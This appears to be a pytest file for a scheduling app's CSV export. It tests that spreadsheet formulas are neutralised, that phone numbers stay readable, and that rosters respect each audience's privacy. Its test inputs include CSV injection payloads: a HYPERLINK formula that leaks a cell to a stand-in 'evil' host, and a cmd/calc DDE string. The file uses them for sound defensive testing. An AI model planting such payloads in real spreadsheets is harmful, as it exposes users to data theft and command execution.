"""CSV: what a spreadsheet opens is what was written, and nothing in it is reckoned."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from volsched.errors import InvalidValue, UnknownName
from volsched.model.text import clean
from volsched.publishing import Viewer, booking_rows, cell, csv_bytes, csv_text, roster_csv, roster_rows, write_tables

COORDINATOR = Viewer(audience="coordinator")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Choir", "Choir"),
        ("", ""),
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
        ("@SUM(1)", "'@SUM(1)"),
        ("-2+3", "'-2+3"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("\n=1", "'\n=1"),
        ("\u3000=1", "'\u3000=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
        ("\x00=1", "'=1"),
        ("a=1", "a=1"),
        ("+49 170 1234567", "+49 170 1234567"),
        ("+86-991-5550100", "+86 991 5550100"),
        ("+86 (991) 5550100", "+86 991 5550100"),
        ("+8699155550100", "+8699155550100"),
        ("0991-5550100", "0991-5550100"),
        ("+1-2", "'+1-2"),
    ],
)
def test_a_cell_is_text_and_phones_stay_readable(value, expected):
    assert cell(value) == expected
    assert next(csv.reader(io.StringIO(csv_text([[value, "x"]]), newline=""))) == [expected, "x"]


@given(st.lists(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=2), max_size=5))
def test_rows_read_back_and_no_cell_begins_like_a_formula(rows):
    found = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert found == [[cell(value) for value in row] for row in rows]
    for row, source in zip(found, rows, strict=True):
        for value, original in zip(row, source, strict=True):
            assert value.lstrip()[:1] not in tuple("=-@＝＋－＠")
            assert value[:1] not in tuple("\t\r\n")
            assert value.removeprefix("'") == clean(original).removeprefix("'") or value[:1] == "+"


@pytest.mark.parametrize("value", [1.5, True, b"x", object()])
def test_other_values_are_refused_with_their_row(value):
    with pytest.raises(InvalidValue, match="table row 2: cell: .* is neither text nor a whole number"):
        csv_text([["a"], [value]])


def test_half_a_character_is_refused_with_its_row():
    with pytest.raises(InvalidValue, match="table row 1: cell: holds half of a character"):
        csv_text([["\ud800"]])


def test_a_file_begins_with_the_mark_by_which_excel_knows_utf_8():
    assert csv_bytes([["中", 1, None]]) == b"\xef\xbb\xbf\xe4\xb8\xad,1,\r\n"


def test_a_roster_has_a_row_for_each_seat(plan):
    assert roster_csv(plan, plan.rosters[0]) == (
        "date,start,end,zone,activity,title,role,seat,person,name\r\n"
        "2027-05-01,22:00,2027-05-02 02:00,Asia/Shanghai,night,夜间巡逻,巡逻,1,an,安娜尔\r\n"
        "2027-05-01,22:00,2027-05-02 02:00,Asia/Shanghai,night,夜间巡逻,巡逻,2,bo,李博\r\n"
        "2027-05-02,22:00,2027-05-03 02:00,Asia/Shanghai,night,夜间巡逻,巡逻,1,bo,李博\r\n"
        "2027-05-02,22:00,2027-05-03 02:00,Asia/Shanghai,night,夜间巡逻,巡逻,2,,\r\n"
    )


def test_a_roster_names_people_to_those_who_may_know(plan):
    own = list(roster_rows(plan, Viewer(audience="person", language="ug", person="an"), "night"))
    # The second night is none of her business; the first one is hers, without the name of the other.
    assert [row[4:] for row in own[1:]] == [
        ("night", "كېچىلىك چارلاش", "چارلاش", 1, "an", "ئاناار"),
        ("night", "كېچىلىك چارلاش", "چارلاش", 2, "", ""),
        ("", "ئىگىلەنگەن", "", 1, "", ""),
        ("", "ئىگىلەنگەن", "", 2, "", ""),
    ]
    members = list(roster_rows(plan, Viewer(audience="member"), "night"))
    assert {row[8:] for row in members[1:]} == {("", "")}


def test_a_roster_that_is_not_there_is_refused(plan):
    with pytest.raises(UnknownName, match="no roster 'nights'; did you mean 'night'"):
        list(roster_rows(plan, COORDINATOR, "nights"))


def test_bookings_for_coordinators_leave_out_what_is_for_the_people_alone(plan):
    assert [row[4:] for row in booking_rows(plan, COORDINATOR)][1:] == [
        ("first-aid", "急救培训", "booked", None, "an", "安娜尔", ""),
        ("first-aid", "急救培训", "waiting", 1, "di", "狄娜", "no-place-left"),
    ]


def test_organisers_and_people_read_their_own_bookings(plan):
    chen = list(booking_rows(plan, Viewer(audience="person", language="en", person="chen")))
    assert [row[1:5] for row in chen[1:]] == [
        ("09:00", "09:15", "Asia/Shanghai", "checkup"),
        ("09:15", "09:30", "Asia/Shanghai", "checkup"),
    ]
    di = list(booking_rows(plan, Viewer(audience="person", person="di")))
    assert [(row[4], row[8]) for row in di[1:]] == [("checkup", "di"), ("first-aid", "di")]
    assert list(booking_rows(plan, Viewer(audience="member")))[1:] == []


def test_tables_lie_where_their_audience_looks(plan):
    assert [file.path for file in write_tables(plan)] == [
        "coordinator/roster/night.csv",
        "coordinator/bookings.csv",
        "person/chen.bookings.csv",
    ]
